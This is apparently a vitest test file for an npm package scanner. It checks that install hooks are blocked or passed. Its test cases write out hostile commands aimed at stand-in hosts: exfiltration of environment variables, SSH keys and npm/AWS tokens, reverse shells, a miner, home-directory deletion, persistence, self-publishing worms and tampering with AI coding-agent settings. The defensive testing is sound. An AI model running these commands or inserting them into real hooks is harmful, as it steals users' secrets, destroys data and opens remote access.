import { describe, expect, test } from "vitest";
import { toFinding } from "../../../src/scanner/findings/to-finding.ts";
import { allRules } from "../../../src/scanner/rules/all.ts";
import { score } from "../../../src/scanner/score.ts";
import { packageView } from "../../support/package-view.ts";

/** What all rules say about a package with this hook, by the gravest finding of each rule. */
function judge(line: string, files: Readonly<Record<string, string>> = {}) {
  // A manifest like that of a package that has a reason for a hook.
  const manifest = { scripts: { postinstall: line }, bin: "index.js" };
  const view = packageView({ manifest, files: { "index.js": "", ...files } });
  const findings = allRules.flatMap((rule) =>
    [...rule.check(view)].map((hit) => toFinding(rule.meta, hit)),
  );
  return { verdict: score(findings).verdict, ids: new Set(findings.map(({ ruleId }) => ruleId)) };
}

describe("hooks in shell that block", () => {
  test.each([
    ["EXF-01", "env | curl -s -d @- https://files.example.test/c"],
    ["EXF-01", 'curl -d "$(printenv | base64)" https://files.example.test/c'],
    ["EXF-01", "env > /tmp/a; curl -F f=@/tmp/a https://files.example.test/c"],
    ["EXF-01", "export -p | nc 192.0.2.7 4444"],
    ["EXF-02", 'curl -H "x: $NPM_TOKEN" https://files.example.test/c'],
    ["EXF-02", 'T=$AWS_SECRET_ACCESS_KEY; wget "https://files.example.test/?k=$T"'],
    ["EXF-02", "curl https://files.example.test/%GITHUB_TOKEN%"],
    ["EXF-03", "cat ~/.npmrc | base64 | curl --data-binary @- https://files.example.test"],
    ["EXF-03", "curl -T ~/.ssh/id_rsa https://files.example.test/c"],
    ["EXF-03", "tar czf /tmp/x.tgz ~/.aws && curl -F f=@/tmp/x.tgz https://files.example.test/c"],
    ["EXF-03", "cp ~/.netrc /tmp/n && curl -T /tmp/n https://files.example.test/c"],
    ["EXF-03", "scp ~/.ssh/id_ed25519 a@files.example.test:/tmp/"],
    [
      "EXF-03",
      'for f in ~/.npmrc ~/.aws/credentials; do [ -f "$f" ] && curl -F "f=@$f" https://files.example.test/u; done',
    ],
    [
      "EXF-03",
      'up() { curl -s --data-binary "@$1" https://files.example.test/u; }; up "$HOME/.npmrc"',
    ],
    [
      "EXF-03",
      `a=("$HOME/.npmrc" ~/.netrc); for f in "\${a[@]}"; do curl -sF "f=@$f" https://files.example.test/u; done`,
    ],
    [
      "EXF-03",
      'printf "%s\\n" ~/.npmrc ~/.netrc | while read -r f; do curl -sT "$f" https://files.example.test/u; done',
    ],
    ["EXF-03", "gh auth token | curl -d @- https://files.example.test"],
    ["EXF-04", 'find ~ -name "*.env" -exec curl -F f=@{} https://files.example.test/u \\;'],
    [
      "EXF-05",
      "curl http://169.254.169.254/latest/meta-data/ | curl -d @- https://files.example.test/c",
    ],
    ["EXF-07", "nslookup $(whoami).$(hostname).d.example.test"],
    ["EXF-07", "dig $(cat ~/.npmrc | base64 | cut -c1-60).d.example.test"],
    ["EXF-11", "cat /proc/1/environ > /tmp/x"],
    ["INS-17", 'curl "https://files.example.test/?u=$(whoami)&h=$(hostname)&k=$(uname -a)"'],
    ["EXE-07", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"],
    ["EXE-07", "nc -e /bin/sh 192.0.2.1 4444"],
    ["EXE-13", "./miner -o stratum+tcp://pool.example.test:3333 -u x"],
    ["DES-01", "rm -rf ~"],
    ["DES-01", 'rm -rf "$HOME"/*'],
    ["DES-01", "rd /s /q %USERPROFILE%"],
    ["DES-01", "find ~ -type f -delete"],
    ["PER-01", '(crontab -l; echo "* * * * * x") | crontab -'],
    ["PER-02", "echo '192.0.2.1 a.example.test' | sudo tee -a /etc/hosts"],
    ["PER-03", "./config.sh --url https://files.example.test/a --token X"],
    ["WRM-01", "npm version patch && npm publish"],
    ["WRM-03", "git add -A && git commit -m x && git push origin HEAD"],
    ["WRM-04", "git config --global core.hooksPath ~/.h"],
    ["AGT-01", "mkdir -p ~/.claude && cp settings.json ~/.claude/settings.json"],
    ["AGT-02", 'claude --dangerously-skip-permissions -p "look for keys"'],
    ["AGT-04", "claude mcp add x -- node x.js"],
  ])("%s: %s", (id, line) => {
    const { verdict, ids } = judge(line);
    expect([...ids]).toContain(id);
    expect(verdict).toBe("block");
  });

  test.each([
    [
      "EXF-01",
      "a.sh",
      '#!/bin/sh\nA=$(env)\ncurl -s -d "$A" https://files.example.test/c\n',
      "sh a.sh",
    ],
    ["EXE-07", "a.sh", "#!/bin/sh\nexec 5<>/dev/tcp/192.0.2.1/4444\ncat <&5 | sh\n", "sh a.sh"],
    [
      "EXF-01",
      "a.py",
      "import os, requests\nrequests.post('https://files.example.test', json=dict(os.environ))\n",
      "python3 a.py",
    ],
    [
      "EXF-03",
      "a.py",
      "from pathlib import Path\nfrom urllib.request import urlopen\nd=(Path.home() / '.ssh/id_rsa').read_bytes()\nurlopen('https://files.example.test', d)\n",
      "python3 a.py",
    ],
    [
      "EXF-03",
      "a.ps1",
      '$t = Get-Content "$HOME\\.npmrc"\nInvoke-RestMethod -Uri https://files.example.test -Method Post -Body $t\n',
      "powershell -File a.ps1",
    ],
    [
      "AGT-01",
      "a.py",
      "import os\nopen(os.path.expanduser('~/.claude/CLAUDE.md'), 'a').write('x')\n",
      "python3 a.py",
    ],
    [
      "DES-01",
      "a.py",
      "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n",
      "python3 a.py",
    ],
  ])("%s: a file %s", (id, path, text, line) => {
    const { verdict, ids } = judge(line, { [path]: text });
    expect([...ids]).toContain(id);
    expect(verdict).toBe("block");
  });
});

describe("hooks in shell that pass", () => {
  test.each([
    "rm -rf dist ./build node_modules/.cache",
    "rm -rf ~/.cache/sample",
    "curl -sSL -o bin/x https://files.example.test/$(uname -s)-$(uname -m) && chmod +x bin/x",
    'test -n "$NPM_TOKEN" && echo "token is set"',
    'curl -H "authorization: token $GITHUB_TOKEN" https://api.github.com/repos/a/b -o x.json',
    "env NODE_ENV=production node build.js",
    "ls ~/.ssh",
    "echo installed for $USER on $(hostname)",
    "git config core.hooksPath .githooks",
    "git rev-parse HEAD > commit.txt",
    "npm run build --if-present",
    "ping -c 1 files.example.test",
    "[ -f ~/.npmrc ] && echo found",
    "find . -name '*.map' -delete",
    "env | grep -c npm_",
  ])("%s", (line) => {
    expect(judge(line, { "build.js": "" }).verdict).not.toBe("block");
  });

  test.each([
    [
      "a build script",
      "a.py",
      "import os, subprocess\nos.makedirs('build', exist_ok=True)\n",
      "python3 a.py",
    ],
    [
      "a download of a release",
      "a.py",
      "import platform\nfrom urllib.request import urlopen\nurlopen('https://files.example.test/' + platform.system())\n",
      "python3 a.py",
    ],
    [
      "a reader of its own settings",
      "a.ps1",
      "$c = Get-Content .\\config.json | ConvertFrom-Json\nWrite-Output $c.name\n",
      "powershell -File a.ps1",
    ],
  ])("%s", (_, path, text, line) => {
    expect(judge(line, { [path]: text }).verdict).not.toBe("block");
  });
});
